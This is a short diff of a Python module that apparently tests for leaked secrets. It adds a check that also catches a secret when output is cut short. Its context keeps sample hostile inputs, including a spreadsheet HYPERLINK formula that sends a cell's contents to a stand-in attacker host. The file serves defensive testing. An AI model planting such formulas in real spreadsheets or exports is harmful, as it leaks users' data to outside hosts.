@@ -10,6 +10,7 @@ from collections.abc import Iterator
 from pathlib import Path
 from urllib.parse import quote
 
+_PIECE = 30
 NAMES = (
     '=HYPERLINK("http://evil.example/?x="&A1;"click")',
     "+44 evil",
@@ -27,6 +28,8 @@ def forms(secret: str) -> Iterator[bytes]:
     """As it is, and as it travels: in JSON, in an address, in base64 at each of the three offsets."""
     raw = secret.encode()
     yield raw
+    if len(raw) > 2 * _PIECE:
+        yield raw[-2 * _PIECE : -_PIECE]  # an output that is cut short shows less than all of it
     yield json.dumps(secret)[1:-1].encode()
     yield quote(secret, safe="").encode()
     for offset in range(3):
